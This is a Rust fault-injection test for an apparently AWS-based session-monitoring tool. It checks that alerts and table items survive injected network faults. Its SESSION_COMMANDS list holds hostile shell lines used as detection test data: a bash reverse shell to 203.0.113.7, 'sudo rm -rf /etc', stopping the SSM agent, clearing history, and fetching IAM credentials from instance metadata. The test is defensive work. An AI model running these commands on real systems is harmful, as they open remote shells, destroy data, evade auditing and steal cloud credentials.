//! Fault injection end to end: the sample events and generated sessions through the recorder and
//! scanner on the AWS adapters, with a fault proxy (`tests/faults/proxy.py`) between them and
//! moto server, delivered as Lambda delivers asynchronous events (a failed event is retried,
//! `LAMBDA_ATTEMPTS` in all, then dead-lettered; dead letters are redriven once at the end, as an
//! operator does when the dead-letter alarm fires). Each run's final table items and the alerts an
//! SQS queue subscribed to the topic received are compared with one clean delivery straight to
//! moto.
//!
//! Run by `scripts/test` (`--ignored`, it needs moto server): a CI size by default,
//! `WARDEN_FAULTS_FULL=1` for more generated sessions. `WARDEN_FAULTS_SEED` changes the seed,
//! `WARDEN_FAULTS_MODES=lost_reply,mixed` runs only those modes.
//! Fails on any lost alert, any duplicate a subscriber cannot drop by its `alert_id`, any table
//! item that differs from the clean delivery, and any dead letter the redrive cannot clear.
//! Repeats of one `alert_id` (an SNS publish whose reply was lost, sent again) are counted and
//! printed, not failed: a standard topic cannot be exactly-once.

#[path = "support/items.rs"]
mod items;
#[path = "support/moto.rs"]
mod moto;

use aws_config::SdkConfig;
use aws_config::timeout::TimeoutConfig;
use aws_sdk_dynamodb::types::AttributeValue;
use serde_json::{Value, json};
use std::collections::{BTreeMap, HashMap};
use std::io::{BufRead, BufReader, Read, Write};
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};
use warden_core::aws::{DynamoStore, SnsNotifier};
use warden_core::config::WardenConfig;
use warden_core::handlers::recorder::Recorder;
use warden_core::handlers::scanner::Scanner;
use warden_core::local::DryRunTerminator;
use warden_core::transcript::payload::{
    LogEvent, LogsBatch, StreamIdentity, StreamRecord, StreamTarget, encode_subscription,
};

/// Lambda's attempts at an asynchronous event: `MaximumRetryAttempts: 2` in template.yaml.
const LAMBDA_ATTEMPTS: usize = 3;
/// The alert claim lease in these runs. Lambda waits a minute or more before retrying a failed
/// event, longer than the functions' 30-second lease; the driver stands in for that wait by
/// sleeping past this shorter lease before each retry and before the redrive.
const TEST_LEASE: Duration = Duration::from_millis(150);
/// SDK timings scaled down so a run takes seconds: the attempt timeout is below the proxy's
/// slowest replies (0.5-2 x `SLOW_SECONDS`), so some slow replies time out after the write.
const ATTEMPT_TIMEOUT: Duration = Duration::from_millis(250);
/// The clean deliveries go straight to moto and must see no fault at all: a moto busy with
/// hundreds of tables can take longer than `ATTEMPT_TIMEOUT` to answer, which would time out
/// and repeat a publish it did accept, so they keep the production attempt timeout.
const CLEAN_ATTEMPT_TIMEOUT: Duration = Duration::from_secs(5);
const SLOW_SECONDS: f64 = 0.2;
const RATES: [f64; 3] = [0.05, 0.20, 0.40];
const MODES: [&str; 6] = [
    "error500",
    "throttle",
    "reset",
    "slow",
    "lost_reply",
    "mixed",
];

// ---------------------------------------------------------------------------------------------
// The proxy

struct Proxy {
    child: Child,
    url: String,
}

impl Proxy {
    fn start(upstream: &str) -> Proxy {
        let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/faults/proxy.py");
        let mut child = Command::new(moto::python())
            .arg(&script)
            .args(["--upstream", upstream])
            .args(["--slow-seconds", &SLOW_SECONDS.to_string()])
            .stdout(Stdio::piped())
            .stderr(Stdio::inherit())
            .spawn()
            .expect("start python3 tests/faults/proxy.py");
        let mut first = String::new();
        BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut first)
            .expect("read the proxy's address");
        let url = first
            .trim()
            .strip_prefix("listening ")
            .unwrap_or_else(|| panic!("the proxy said {first:?}, not `listening URL`"))
            .to_string();
        Proxy { child, url }
    }

    /// One control request (`/__faults__`) over a fresh connection.
    fn control(&self, method: &str, body: &str) -> Value {
        let address = self.url.trim_start_matches("http://");
        let mut stream = std::net::TcpStream::connect(address).expect("connect to the proxy");
        write!(
            stream,
            "{method} /__faults__ HTTP/1.1\r\nHost: {address}\r\nContent-Type: application/json\r\n\
             Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        )
        .unwrap();
        let mut reply = String::new();
        stream.read_to_string(&mut reply).unwrap();
        let (head, payload) = reply.split_once("\r\n\r\n").expect("an HTTP reply");
        assert!(head.starts_with("HTTP/1.1 200"), "proxy control: {reply}");
        serde_json::from_str(payload).expect("proxy counters as JSON")
    }

    fn set(&self, mode: &str, rate: f64, seed: u64) {
        self.control(
            "POST",
            &json!({"mode": mode, "rate": rate, "seed": seed}).to_string(),
        );
    }

    fn counters(&self) -> Value {
        self.control("GET", "")
    }
}

impl Drop for Proxy {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

// ---------------------------------------------------------------------------------------------
// The events

#[derive(Clone)]
enum Input {
    CloudTrail(Value),
    Transcript(Value),
}

#[derive(Clone)]
struct Delivery {
    label: String,
    input: Input,
}

fn read_json(path: &Path) -> Value {
    let text = std::fs::read_to_string(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    serde_json::from_str(&text).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

fn json_files(folder: &str) -> Vec<std::path::PathBuf> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join(folder);
    let mut files: Vec<_> = std::fs::read_dir(&dir)
        .unwrap_or_else(|e| panic!("{}: {e}", dir.display()))
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|x| x == "json"))
        .collect();
    files.sort();
    files
}

/// `events/1-cloudtrail` and `events/2-transcripts` in replay order. (The reaper is not in these
/// runs: moto has no `DescribeSessions` to ask.)
fn sample_events() -> Vec<Delivery> {
    let mut deliveries = Vec::new();
    for (folder, transcript) in [
        ("events/1-cloudtrail", false),
        ("events/2-transcripts", true),
    ] {
        for path in json_files(folder) {
            let event = read_json(&path);
            deliveries.push(Delivery {
                label: path.file_name().unwrap().to_string_lossy().into_owned(),
                input: if transcript {
                    Input::Transcript(event)
                } else {
                    Input::CloudTrail(event)
                },
            });
        }
    }
    deliveries
}

/// Commands a generated session types, one picked per session after benign ones: most fire a
/// default rule (alert or terminate), one is benign.
const SESSION_COMMANDS: &[&str] = &[
    "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "sudo rm -rf /etc",
    "sudo systemctl stop amazon-ssm-agent",
    "history -c",
    "tail -n 50 /var/log/messages",
    "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
];

/// `count` sessions, each a StartSession (every other one without MFA), a streamed transcript
/// and a TerminateSession, made from the samples 03 and 04 with their own ids and times.
fn generated_sessions(count: usize) -> Vec<Delivery> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("events/1-cloudtrail");
    let start_template = read_json(&dir.join("03-start-role-without-mfa.json"));
    let end_template = read_json(&dir.join("04-terminate-role-without-mfa.json"));
    let mut deliveries = Vec::new();
    for i in 0..count {
        let user = format!("gen{i:03}");
        let session_id = format!("{user}-{:017x}", 0xabc0_0000_u64 + i as u64);
        let arn = format!("arn:aws:sts::111122223333:assumed-role/Admin/{user}");
        // Tuesdays 2026-11-24, business hours, a minute apart.
        let started: jiff::Timestamp = "2026-11-24T09:00:00Z".parse().unwrap();
        let started = started + jiff::SignedDuration::from_mins(i as i64);
        let ended = started + jiff::SignedDuration::from_mins(30);

        let mut start = start_template.clone();
        let d = &mut start["detail"];
        d["userIdentity"]["arn"] = json!(arn);
        d["userIdentity"]["principalId"] = json!(format!("AROARBUVWNU5JXYCG2FUI:{user}"));
        d["userIdentity"]["sessionContext"]["attributes"]["mfaAuthenticated"] =
            json!(if i % 2 == 0 { "false" } else { "true" });
        d["eventTime"] = json!(started.to_string());
        d["responseElements"]["sessionId"] = json!(session_id);
        d["responseElements"]["streamUrl"] = json!(format!(
            "wss://ssmmessages.eu-west-1.amazonaws.com/v1/data-channel/{session_id}?role=publish_subscribe"
        ));
        d["eventID"] = json!(format!("00000000-0000-4000-8000-{:012x}", 2 * i));
        start["time"] = json!(started.to_string());
        start["id"] = json!(format!("10000000-0000-4000-8000-{:012x}", 2 * i));

        let mut end = end_template.clone();
        let d = &mut end["detail"];
        d["userIdentity"] = start["detail"]["userIdentity"].clone();
        d["eventTime"] = json!(ended.to_string());
        d["requestParameters"]["sessionId"] = json!(session_id);
        d["responseElements"]["sessionId"] = json!(session_id);
        d["eventID"] = json!(format!("00000000-0000-4000-8000-{:012x}", 2 * i + 1));
        end["time"] = json!(ended.to_string());
        end["id"] = json!(format!("10000000-0000-4000-8000-{:012x}", 2 * i + 1));

        let lines = [
            "sh-5.2$ id".to_string(),
            "uid=1001(ssm-user) gid=1001(ssm-user) groups=1001(ssm-user)".to_string(),
            "sh-5.2$ ls -la /opt/app".to_string(),
            "total 0".to_string(),
            format!("sh-5.2$ {}", SESSION_COMMANDS[i % SESSION_COMMANDS.len()]),
            "sh-5.2$ exit".to_string(),
        ];
        let records: Vec<String> = lines
            .chunks(2)
            .enumerate()
            .map(|(n, chunk)| {
                let at = started + jiff::SignedDuration::from_secs(60 + n as i64);
                serde_json::to_string(&StreamRecord {
                    event_version: Some("1.0".into()),
                    event_time: Some(at.to_string()),
                    aws_region: Some("eu-west-1".into()),
                    target: Some(StreamTarget {
                        id: Some("i-0c4d5e6f7a8b90123".into()),
                    }),
                    user_identity: Some(StreamIdentity {
                        arn: Some(arn.clone()),
                    }),
                    run_as_user: Some("ssm-user".into()),
                    session_id: Some(session_id.clone()),
                    session_data: chunk.to_vec(),
                })
                .unwrap()
            })
            .collect();
        let batch = LogsBatch {
            message_type: "DATA_MESSAGE".into(),
            owner: "111122223333".into(),
            log_group: "/aws/ssm/session-logs".into(),
            log_stream: session_id.clone(),
            subscription_filters: vec!["session-warden".into()],
            log_events: records
                .into_iter()
                .enumerate()
                .map(|(n, message)| {
                    let at =
                        (started + jiff::SignedDuration::from_secs(60 + n as i64)).as_millisecond();
                    LogEvent {
                        id: format!("{at:0>20}{n:0>36}"),
                        timestamp: at,
                        message,
                    }
                })
                .collect(),
        };
        deliveries.push(Delivery {
            label: format!("{session_id} start"),
            input: Input::CloudTrail(start),
        });
        deliveries.push(Delivery {
            label: format!("{session_id} transcript"),
            input: Input::Transcript(encode_subscription(&batch)),
        });
        deliveries.push(Delivery {
            label: format!("{session_id} terminate"),
            input: Input::CloudTrail(end),
        });
    }
    deliveries
}

// ---------------------------------------------------------------------------------------------
// One run

#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug)]
enum Order {
    Forward,
    Twice,
    Reversed,
}

impl Order {
    fn name(self) -> &'static str {
        match self {
            Order::Forward => "in order",
            Order::Twice => "twice",
            Order::Reversed => "reversed",
        }
    }

    fn arrange(self, deliveries: &[Delivery]) -> Vec<Delivery> {
        match self {
            Order::Forward => deliveries.to_vec(),
            Order::Twice => deliveries
                .iter()
                .flat_map(|d| [d.clone(), d.clone()])
                .collect(),
            Order::Reversed => deliveries.iter().rev().cloned().collect(),
        }
    }
}

type AwsRecorder = Recorder<DynamoStore, SnsNotifier, DryRunTerminator>;
type AwsScanner = Scanner<DynamoStore, SnsNotifier, DryRunTerminator>;

struct Handlers {
    recorder: AwsRecorder,
    scanner: AwsScanner,
}

impl Handlers {
    /// The recorder's or scanner's verdict on one delivery, as Lambda sees it: an event that is
    /// not a session call is acknowledged; any other error fails the invocation.
    async fn deliver(&self, delivery: &Delivery) -> Result<(), String> {
        match &delivery.input {
            Input::CloudTrail(event) => match self.recorder.handle(event).await {
                Ok(_) => Ok(()),
                Err(e) if e.is_unrelated_event() => Ok(()),
                Err(e) => Err(e.to_string()),
            },
            Input::Transcript(event) => self
                .scanner
                .handle(event)
                .await
                .map(|_| ())
                .map_err(|e| e.to_string()),
        }
    }
}

/// The production SDK configuration (retry mode, attempts, classification) with its timings
/// scaled down: backoff in milliseconds instead of seconds, `attempt_timeout` per attempt.
async fn scaled_sdk_config(endpoint: &str, attempt_timeout: Duration) -> SdkConfig {
    let production = warden_core::aws::sdk_config(Some(endpoint)).await;
    let retry = production
        .retry_config()
        .expect("sdk_config sets a retry configuration")
        .clone()
        .with_initial_backoff(Duration::from_millis(10))
        .with_max_backoff(Duration::from_millis(100));
    production
        .to_builder()
        .retry_config(retry)
        .timeout_config(
            TimeoutConfig::builder()
                .connect_timeout(Duration::from_millis(500))
                .operation_attempt_timeout(attempt_timeout)
                .operation_timeout(attempt_timeout * 4 + Duration::from_secs(1))
                .build(),
        )
        .build()
}

/// What a run left behind.
struct Outcome {
    /// Table items by `pk sk`, without what differs between deliveries by nature (versions,
    /// processing times, claim holders).
    items: BTreeMap<String, Value>,
    /// Messages the subscriber received, by `alert_id`.
    alerts: BTreeMap<String, usize>,
    /// Messages without an `alert_id` attribute.
    unlabelled: usize,
    /// Alert items claimed but never marked sent.
    unmarked: usize,
    /// Sessions whose transcript failure no later success cured: a false alarm from the reaper
    /// once every batch went through.
    uncured: Vec<String>,
    dead_lettered: usize,
    /// The deliveries in the order they succeeded (a redriven dead letter last).
    took_effect: Vec<Delivery>,
    /// Dead letters that failed again when redriven.
    redrive_failed: Vec<String>,
    lambda_retries: usize,
    faults: Value,
    seconds: f64,
}

/// Delivers `deliveries` in order through fresh handlers on `endpoint` (the proxy, or moto), as
/// Lambda would: each failed event retried after the lease, dead-lettered after
/// `LAMBDA_ATTEMPTS`; then, with faults off, every dead letter redriven once.
async fn run(
    direct: &SdkConfig,
    endpoint: &str,
    proxy: Option<(&Proxy, &str, f64, u64)>,
    deliveries: &[Delivery],
) -> Outcome {
    let began = Instant::now();
    let dynamo = aws_sdk_dynamodb::Client::new(direct);
    let table = moto::unique("faults");
    moto::create_table(&dynamo, &table).await;
    let (topic, queue) = moto::create_topic_with_queue(direct, &moto::unique("faults")).await;

    let attempt_timeout = match proxy {
        Some(_) => ATTEMPT_TIMEOUT,
        None => CLEAN_ATTEMPT_TIMEOUT,
    };
    let sdk = scaled_sdk_config(endpoint, attempt_timeout).await;
    let store = DynamoStore::new(aws_sdk_dynamodb::Client::new(&sdk), &table, 30);
    let notifier = SnsNotifier::new(aws_sdk_sns::Client::new(&sdk), &topic);
    let mut config = WardenConfig::from_lookup(|_| None).unwrap();
    config.alert_claim_lease = jiff::SignedDuration::try_from(TEST_LEASE).unwrap();
    let handlers = Handlers {
        recorder: Recorder::new(
            store.clone(),
            notifier.clone(),
            DryRunTerminator::new(),
            config.clone(),
        ),
        scanner: Scanner::new(
            store,
            notifier,
            DryRunTerminator::new(),
            config,
            warden_core::rules::default_rules(),
        ),
    };

    if let Some((proxy, mode, rate, seed)) = proxy {
        proxy.set(mode, rate, seed);
    }
    let mut dead_letters = Vec::new();
    // The deliveries in the order they finally succeeded: dead letters move to the end.
    let mut took_effect = Vec::new();
    let mut lambda_retries = 0;
    for delivery in deliveries {
        let mut failed = None;
        for attempt in 0..LAMBDA_ATTEMPTS {
            if attempt > 0 {
                lambda_retries += 1;
                tokio::time::sleep(TEST_LEASE + Duration::from_millis(20)).await;
            }
            match handlers.deliver(delivery).await {
                Ok(()) => {
                    failed = None;
                    break;
                }
                Err(error) => failed = Some(error),
            }
        }
        match failed {
            Some(_) => dead_letters.push(delivery),
            None => took_effect.push(delivery.clone()),
        }
    }
    let faults = match proxy {
        Some((proxy, ..)) => {
            let counters = proxy.counters();
            proxy.set("none", 0.0, 0);
            counters
        }
        None => Value::Null,
    };
    // The redrive comes long after the failures: every claim they left has lapsed.
    tokio::time::sleep(TEST_LEASE + Duration::from_millis(20)).await;
    let mut redrive_failed = Vec::new();
    for delivery in &dead_letters {
        match handlers.deliver(delivery).await {
            Ok(()) => took_effect.push((*delivery).clone()),
            Err(error) => redrive_failed.push(format!("{}: {error}", delivery.label)),
        }
    }

    let (items, uncured) = items::table_items(&dynamo, &table).await;
    let unmarked = items
        .iter()
        .filter(|(key, item)| key.contains(" ALERT#") && item.get("sent").is_none())
        .count();
    let mut alerts = BTreeMap::new();
    let mut unlabelled = 0;
    for message in moto::drain_queue(direct, &queue).await {
        match message["MessageAttributes"]["alert_id"]["Value"].as_str() {
            Some(id) => *alerts.entry(id.to_string()).or_insert(0) += 1,
            None => unlabelled += 1,
        }
    }
    Outcome {
        items,
        alerts,
        unlabelled,
        unmarked,
        uncured,
        dead_lettered: dead_letters.len(),
        took_effect,
        redrive_failed,
        lambda_retries,
        faults,
        seconds: began.elapsed().as_secs_f64(),
    }
}

/// A faulty run against its clean baseline.
struct Row {
    mode: String,
    rate: f64,
    order: Order,
    faulted: u64,
    requests: u64,
    lambda_retries: usize,
    dead_lettered: usize,
    lost: Vec<String>,
    doubled: usize,
    repeats: usize,
    unmarked: usize,
    missing: Vec<String>,
    extra: Vec<String>,
    uncured: Vec<String>,
    redrive_failed: Vec<String>,
    seconds: f64,
}

impl Row {
    fn failed(&self) -> bool {
        !self.lost.is_empty()
            || self.doubled > 0
            || !self.missing.is_empty()
            || !self.extra.is_empty()
            || !self.uncured.is_empty()
            || !self.redrive_failed.is_empty()
    }
}

/// Compares a faulty run with the clean deliveries it may legitimately equal: the one in its
/// delivery order, and, when events were dead-lettered, the one in the order its events took
/// effect (a redriven transcript can find its session already ended, where in delivery order it
/// did not; a dead letter's failed attempts may have recorded part of its work before the
/// session ended). Each session item must equal one of them; alerts are keyed alike in both.
fn compare(mode: &str, rate: f64, order: Order, baselines: &[&Outcome], faulty: &Outcome) -> Row {
    let clean = baselines[0];
    let lost = clean
        .alerts
        .keys()
        .filter(|id| !faulty.alerts.contains_key(*id))
        .cloned()
        .collect();
    // A duplicate a subscriber cannot drop: no id, or an id the clean delivery never sent.
    let doubled = faulty.unlabelled
        + faulty
            .alerts
            .iter()
            .filter(|(id, _)| !clean.alerts.contains_key(*id))
            .map(|(_, n)| n)
            .sum::<usize>();
    let repeats = faulty.alerts.values().map(|n| n.saturating_sub(1)).sum();
    // An alert marked sent in the clean run and only claimed here is counted as unmarked, not
    // as a missing item: it went out, but a later delivery could send it again.
    let same = |key: &str, a: &Value, b: &Value| {
        if a == b {
            return true;
        }
        let mut b = b.clone();
        if key.contains(" ALERT#") {
            b.as_object_mut()
                .unwrap()
                .insert("sent".into(), json!(true));
        }
        *a == b
    };
    let missing = clean
        .items
        .iter()
        .filter(|(key, _)| {
            faulty.items.get(*key).is_none_or(|other| {
                !baselines
                    .iter()
                    .any(|b| b.items.get(*key).is_some_and(|item| same(key, item, other)))
            })
        })
        .map(|(key, item)| {
            format!(
                "{key}\n      clean:  {item}\n      faulty: {}",
                faulty
                    .items
                    .get(key)
                    .map_or("(none)".to_string(), |v| v.to_string())
            )
        })
        .collect();
    let extra = faulty
        .items
        .keys()
        .filter(|key| !baselines.iter().any(|b| b.items.contains_key(*key)))
        .cloned()
        .collect();
    Row {
        mode: mode.to_string(),
        rate,
        order,
        faulted: faulty.faults["faulted"].as_u64().unwrap_or(0),
        requests: faulty.faults["requests"].as_u64().unwrap_or(0),
        lambda_retries: faulty.lambda_retries,
        dead_lettered: faulty.dead_lettered,
        lost,
        doubled,
        repeats,
        unmarked: faulty.unmarked,
        missing,
        extra,
        uncured: faulty.uncured.clone(),
        redrive_failed: faulty.redrive_failed.clone(),
        seconds: faulty.seconds,
    }
}

fn print_table(rows: &[Row]) {
    println!(
        "\n{:<11}{:>5}  {:<9}{:>8}{:>7}{:>9}{:>6}{:>6}{:>9}{:>9}{:>10}{:>9}{:>7}{:>8}{:>7}",
        "mode",
        "rate",
        "order",
        "faults",
        "calls",
        "retries",
        "DLQ",
        "lost",
        "doubled",
        "repeats",
        "unmarked",
        "missing",
        "extra",
        "uncured",
        "secs"
    );
    for r in rows {
        println!(
            "{:<11}{:>4}%  {:<9}{:>8}{:>7}{:>9}{:>6}{:>6}{:>9}{:>9}{:>10}{:>9}{:>7}{:>8}{:>7.1}",
            r.mode,
            (r.rate * 100.0).round(),
            r.order.name(),
            r.faulted,
            r.requests,
            r.lambda_retries,
            r.dead_lettered,
            r.lost.len(),
            r.doubled,
            r.repeats,
            r.unmarked,
            r.missing.len(),
            r.extra.len(),
            r.uncured.len(),
            r.seconds
        );
    }
    println!(
        "\nfaults: requests the proxy failed, of `calls` DynamoDB and SNS requests it saw; retries: \
         Lambda retries of failed events; DLQ: events dead-lettered after {LAMBDA_ATTEMPTS} attempts \
         (all redriven once at the end); lost: alerts the clean delivery sent and the subscriber \
         never got; doubled: messages a subscriber cannot drop by alert_id; repeats: extra copies \
         of one alert_id; unmarked: alerts published but left claimed, not marked sent; \
         missing / extra: table items that differ from the clean delivery; uncured: sessions \
         whose transcript failure no later success cleared (the reaper would report them \
         unprocessable)."
    );
}

#[tokio::test]
#[ignore = "needs moto server and python3; scripts/test runs it"]
async fn the_proxy_fails_requests_in_each_protocols_own_error_shape() {
    use aws_sdk_dynamodb::error::ProvideErrorMetadata;
    use warden_core::ports::{Notifier, NotifyError, SessionStore, StoreError};
    let Some(moto_url) = moto::endpoint() else {
        return;
    };
    let direct = moto::sdk_config(&moto_url).await;
    let table = moto::unique("shapes");
    moto::create_table(&aws_sdk_dynamodb::Client::new(&direct), &table).await;
    let (topic, _) = moto::create_topic_with_queue(&direct, &moto::unique("shapes")).await;
    let proxy = Proxy::start(&moto_url);
    let sdk = scaled_sdk_config(&proxy.url, ATTEMPT_TIMEOUT).await;
    let dynamo = aws_sdk_dynamodb::Client::new(&sdk);
    let sns = aws_sdk_sns::Client::new(&sdk);
    let store = DynamoStore::new(dynamo.clone(), &table, 30);
    let notifier = SnsNotifier::new(sns.clone(), &topic);
    let alert =
        warden_core::rules::load::problem_alert(&warden_core::rules::load::RulePackProblem {
            source: "test".into(),
            message: "test".into(),
        });
    for (mode, dynamo_code, sns_code) in [
        (
            "throttle",
            "ProvisionedThroughputExceededException",
            "Throttling",
        ),
        ("error500", "InternalServerError", "InternalError"),
    ] {
        proxy.set(mode, 1.0, 1);
        let err = dynamo
            .get_item()
            .table_name(&table)
            .key("pk", AttributeValue::S("SESSION#x".into()))
            .key("sk", AttributeValue::S("META".into()))
            .send()
            .await
            .unwrap_err();
        assert_eq!(err.code(), Some(dynamo_code), "{mode}: {err:?}");
        let err = sns
            .publish()
            .topic_arn(&topic)
            .message("m")
            .send()
            .await
            .unwrap_err();
        assert_eq!(err.code(), Some(sns_code), "{mode}: {err:?}");
        // The adapters take them for transient failures, which fail the invocation.
        assert!(
            matches!(store.load("x").await, Err(StoreError::Unavailable(_))),
            "{mode}"
        );
        assert!(
            matches!(
                notifier.publish(&alert).await,
                Err(NotifyError::Unavailable(_))
            ),
            "{mode}"
        );
        let counters = proxy.counters();
        assert_eq!(counters["faulted"], counters["requests"], "{counters}");
        assert!(
            counters["requests"].as_u64().unwrap() > 4,
            "the SDK did not retry: {counters}"
        );
    }
}

/// The `MaximumRetryAttempts` of the `EventInvokeConfig` whose failures go to `queue`.
fn retry_attempts_into(template: &str, queue: &str) -> Option<usize> {
    template
        .split("EventInvokeConfig:")
        .skip(1)
        .find_map(|block| {
            let block = block.split("Policies:").next()?;
            if !block.contains(&format!("Destination: !GetAtt {queue}.Arn")) {
                return None;
            }
            let line = block
                .lines()
                .find_map(|l| l.trim().strip_prefix("MaximumRetryAttempts: "))?;
            line.trim().parse().ok()
        })
}

#[test]
fn the_driver_retries_as_template_yaml_tells_lambda_to() {
    let template = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/template.yaml"))
        .expect("template.yaml");
    for queue in ["RecorderDeadLetterQueue", "ScannerDeadLetterQueue"] {
        let retries = retry_attempts_into(&template, queue)
            .unwrap_or_else(|| panic!("no EventInvokeConfig sends failures to {queue}"));
        assert_eq!(
            retries + 1,
            LAMBDA_ATTEMPTS,
            "template.yaml retries into {queue} {retries} times; the fault driver assumes {}",
            LAMBDA_ATTEMPTS - 1
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs moto server and python3; scripts/test runs it"]
async fn nothing_is_lost_or_doubled_under_injected_faults() {
    let Some(moto_url) = moto::endpoint() else {
        return;
    };
    let full = std::env::var_os("WARDEN_FAULTS_FULL").is_some_and(|v| v != "0");
    let seed: u64 = match std::env::var("WARDEN_FAULTS_SEED") {
        Ok(text) => text
            .parse()
            .unwrap_or_else(|_| panic!("WARDEN_FAULTS_SEED={text:?} is not a number")),
        Err(_) => 13,
    };
    let sessions = if full { 40 } else { 6 };
    let mut deliveries = sample_events();
    deliveries.extend(generated_sessions(sessions));
    let direct = moto::sdk_config(&moto_url).await;
    let proxy = Proxy::start(&moto_url);
    println!(
        "fault injection: {} deliveries ({} samples, {sessions} generated sessions), seed {seed}, proxy {}",
        deliveries.len(),
        deliveries.len() - 3 * sessions,
        proxy.url
    );

    let mut baselines = HashMap::new();
    for order in [Order::Forward, Order::Reversed] {
        let clean = run(&direct, &moto_url, None, &order.arrange(&deliveries)).await;
        assert_eq!(
            clean.dead_lettered, 0,
            "the clean {order:?} delivery failed"
        );
        assert!(
            clean.alerts.len() >= 10,
            "the clean delivery sent only {} alerts: the samples should page more",
            clean.alerts.len()
        );
        assert!(
            clean.alerts.values().all(|&n| n == 1) && clean.unlabelled == 0,
            "the clean delivery sent an alert twice or without an alert_id: {:?}",
            clean.alerts
        );
        assert_eq!(clean.unmarked, 0, "the clean delivery left alerts unmarked");
        assert!(
            clean.uncured.is_empty(),
            "the clean delivery failed a transcript"
        );
        baselines.insert(order, clean);
    }
    println!(
        "clean delivery: {} alerts, {} table items",
        baselines[&Order::Forward].alerts.len(),
        baselines[&Order::Forward].items.len()
    );

    let mut plan: Vec<(&str, f64, Order)> = Vec::new();
    for mode in MODES {
        for rate in RATES {
            plan.push((mode, rate, Order::Forward));
        }
    }
    for order in [Order::Twice, Order::Reversed] {
        for rate in RATES {
            plan.push(("mixed", rate, order));
        }
    }
    // WARDEN_FAULTS_MODES=lost_reply,mixed: only those modes' runs (for a quicker look).
    if let Ok(only) = std::env::var("WARDEN_FAULTS_MODES") {
        let only: Vec<&str> = only.split(',').map(str::trim).collect();
        for mode in &only {
            assert!(
                MODES.contains(mode),
                "WARDEN_FAULTS_MODES: unknown mode {mode:?} (known: {MODES:?})"
            );
        }
        plan.retain(|(mode, ..)| only.contains(mode));
    }
    let mut rows = Vec::new();
    for (n, (mode, rate, order)) in plan.into_iter().enumerate() {
        let baseline = match order {
            Order::Reversed => &baselines[&Order::Reversed],
            _ => &baselines[&Order::Forward],
        };
        let faulty = run(
            &direct,
            &proxy.url,
            Some((&proxy, mode, rate, seed.wrapping_add(n as u64))),
            &order.arrange(&deliveries),
        )
        .await;
        let reordered = if faulty.dead_lettered > 0 {
            let clean = run(&direct, &moto_url, None, &faulty.took_effect).await;
            assert_eq!(
                clean.dead_lettered, 0,
                "the clean reordered delivery failed"
            );
            Some(clean)
        } else {
            None
        };
        let mut compared_with = vec![baseline];
        compared_with.extend(reordered.as_ref());
        rows.push(compare(mode, rate, order, &compared_with, &faulty));
    }
    print_table(&rows);

    let failures: Vec<&Row> = rows.iter().filter(|r| r.failed()).collect();
    for r in &failures {
        println!(
            "\n{} {}% {}:",
            r.mode,
            (r.rate * 100.0).round(),
            r.order.name()
        );
        for id in &r.lost {
            println!("  lost alert {id}");
        }
        for item in &r.missing {
            println!("  missing or different item {item}");
        }
        for item in &r.extra {
            println!("  extra item {item}");
        }
        for session in &r.uncured {
            println!("  transcript failure never cured: {session}");
        }
        for failure in &r.redrive_failed {
            println!("  redrive failed: {failure}");
        }
    }
    assert!(
        rows.iter().map(|r| r.faulted).sum::<u64>() > 0,
        "the proxy injected no faults"
    );
    assert!(
        failures.is_empty(),
        "{} of {} fault runs lost, doubled or changed something (see above)",
        failures.len(),
        rows.len()
    );
}
